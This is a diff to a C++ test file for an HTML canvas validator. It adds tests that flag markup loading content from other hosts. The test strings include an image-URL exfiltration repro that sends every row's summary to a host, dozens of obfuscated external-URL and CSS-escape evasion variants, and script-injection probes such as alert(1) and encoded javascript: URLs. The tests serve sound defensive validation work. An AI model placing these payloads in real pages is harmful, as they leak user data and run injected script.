@@ -4,6 +4,8 @@
 
 #include <gtest/gtest.h>
 
+#include <algorithm>
+
 namespace affordance::surface {
 namespace {
 
@@ -40,7 +42,8 @@ TEST(SurfaceValidate, SeedCanvasWithMountsIsValid) {
 TEST(SurfaceValidate, ScriptElementsAreRejected) {
   EXPECT_EQ(Codes(Canvas("<p>x</p><SCRIPT>alert(1)</SCRIPT>")), Codes_{"runtime-script"});
   EXPECT_EQ(Codes(Canvas("<svg><script href='x'></script></svg>")), Codes_{"runtime-script"});
-  EXPECT_EQ(Codes(Canvas("<iframe src='https://example.com'></iframe>")), Codes_{"runtime-script"});
+  EXPECT_EQ(Codes(Canvas("<iframe src='https://example.com'></iframe>")),
+            (Codes_{"runtime-script", "external-url"}));
   ValidationOptions none;
   Validation v = ValidateProgram(Canvas("<script>x</script>"), Library::Default(), none);
   ASSERT_EQ(v.errors.size(), 1u);
@@ -68,11 +71,84 @@ TEST(SurfaceValidate, ScriptUrlsAreRejectedEvenWhenEncoded) {
   EXPECT_EQ(Codes(Canvas("<a href='&#106;avascript:x'>x</a>")), Codes_{"runtime-url"});
   EXPECT_EQ(Codes(Canvas("<iframe srcdoc='&lt;script&gt;x&lt;/script&gt;'>")),
             (Codes_{"runtime-script", "runtime-script"}));
+  // A whole-URL placeholder could also become another host (issue 43, item 2): both are named.
   EXPECT_EQ(Codes("root = Html(\"<a href='{{u}}'>x</a>\", {u: \"javascript:alert(1)\"})\n"),
-            Codes_{"runtime-url"});
+            (Codes_{"external-url", "runtime-url"}));
   EXPECT_EQ(Codes("root = Stack([Button(\"x\", Action([@OpenUrl(\"javascript:alert(1)\")]))])\n"),
             Codes_{"runtime-url"});
-  EXPECT_TRUE(Codes(Canvas("<a href='https://example.com/javascript:'>x</a>")).empty());
+  EXPECT_TRUE(Codes(Canvas("<a href='/docs/javascript:'>x</a>")).empty());
+}
+
+// Issue 43, item 2: a canvas that loads from another host carries what it shows there. Every URL
+// form a browser follows is refused, however it is spelled.
+TEST(SurfaceValidate, ExternalUrlsAreRejectedInEveryFormABrowserLoads) {
+  const char* kExternal[] = {
+      // The repro: every row's summary in an image URL.
+      "<img src='http://127.0.0.1:9/x?d={{#each events.rows}}{{summary}}|{{/each}}'>",
+      "<img src='https://e.example/x'>",
+      "<img SRC='HTTPS://E.EXAMPLE/x'>",
+      "<img src='//e.example/x'>",
+      "<img src='\\\\e.example/x'>",
+      "<img src='/\\e.example/x'>",
+      "<img src=' ht&#9;t&#10;p://e.example/x'>",
+      "<img src='&#104;ttp://e.example/x'>",
+      "<img src='http&colon;//e.example/x'>",
+      "<img src='&#x2F;&#x2F;e.example/x'>",
+      "<img srcset='/a.png 1x, https://e.example/b.png 2x'>",
+      "<picture><source srcset='//e.example/a.png'></picture>",
+      "<link rel='stylesheet' href='https://e.example/x.css'>",
+      "<a href='https://e.example/?d={{summary}}'>x</a>",
+      "<a ping='/ok https://e.example/p' href='/x'>x</a>",
+      "<video poster='https://e.example/p.png'></video>",
+      "<audio src='ftp://e.example/a'></audio>",
+      "<svg><image href='https://e.example/i.png'/></svg>",
+      "<svg><use xlink:href='https://e.example/s.svg#a'/></svg>",
+      "<svg><rect fill='url(https://e.example/#p)'/></svg>",
+      "<style>body{background:url(http://e.example/y)}</style>",
+      "<STYLE>body{background:URL('//e.example/y')}</STYLE>",
+      "<style>body{background:\\75 rl(http://e.example/y)}</style>",
+      "<style>body{background:u\\rl(http://e.example/y)}</style>",
+      "<style>body{background:url(ht/**/tp://e.example)}</style>",
+      "<style>@import 'x.css';</style>",
+      "<style>@font-face{font-family:f;src:url(https://e.example/f.woff)}</style>",
+      "<div style=\"background-image: url( 'https://e.example/i' )\"></div>",
+      "<div style='background:image-set(\"https://e.example/a.png\" 1x)'></div>",
+      "<div style='background:url(&quot;https://e.example/a&quot;)'></div>",
+      "<base href='https://e.example/'>",
+      "<meta http-equiv='refresh' content='0;url=https://e.example/'>",
+      // A placeholder that could choose the host or scheme.
+      "<img src='{{u}}'>",
+      "<img src='/{{u}}'>",
+      "<img src='h{{u}}'>",
+      "<div style='background:url({{u}})'></div>",
+  };
+  for (const char* markup : kExternal) {
+    const auto codes = Codes(Canvas(markup));
+    EXPECT_NE(std::find(codes.begin(), codes.end(), "external-url"), codes.end()) << markup;
+  }
+  // This server's own paths, data: images, fragments and placeholders past the path's start are
+  // fine, as is text that merely mentions a URL.
+  const char* kLocal[] = {
+      "<img src='/assets/logo.png'>",
+      "<img src='img/{{id}}.png'>",
+      "<img src='/api/x/{{id}}'>",
+      "<a href='#{{id}}'>x</a>",
+      "<a href='?q={{q}}'>x</a>",
+      "<img src='data:image/png;base64,AAAA'>",
+      "<img srcset='/a.png 1x, /b.png 2x'>",
+      "<p title='https://e.example'>see https://e.example</p>",
+      "<style>p{color:red;background:url(/assets/bg.png)}</style><p style='color:blue'>x</p>",
+  };
+  for (const char* markup : kLocal) EXPECT_TRUE(Codes(Canvas(markup)).empty()) << markup;
+  Validation v = ValidateProgram(Canvas("<img src='https://e.example/x'>"), Library::Default(), {});
+  ASSERT_EQ(v.errors.size(), 1u);
+  EXPECT_EQ(v.errors[0].message,
+            "attribute src loads https://e.example/x; a canvas loads nothing from another host "
+            "(only this server's own paths, data: images, and {{placeholders}} after the path "
+            "starts)");
+  // Inside a srcdoc too.
+  EXPECT_EQ(Codes(Canvas("<iframe srcdoc=\"&lt;img src='https://e.example'&gt;\"></iframe>")),
+            (Codes_{"runtime-script", "external-url"}));
 }
 
 TEST(SurfaceValidate, CanvasMarkupMustBeLiteralAndMountsNeedSlots) {
